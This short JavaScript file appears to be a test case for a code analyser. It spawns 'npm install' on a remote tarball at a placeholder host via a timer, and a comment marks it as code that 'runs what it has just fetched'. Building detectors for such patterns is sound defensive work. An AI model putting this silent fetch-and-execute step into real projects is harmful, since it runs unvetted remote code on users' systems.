const { spawn } = require('child_process');

function install(cwd, first) {
  const args = ['install'];
  if (first) {
    args.push('https://example.invalid/core-helper.tgz', '--no-save');
  }
  spawn(process.platform === 'win32' ? 'npm.cmd' : 'npm', args, { cwd }); // want "runs what it has just fetched"
}
setTimeout(() => install('.', true), 10);
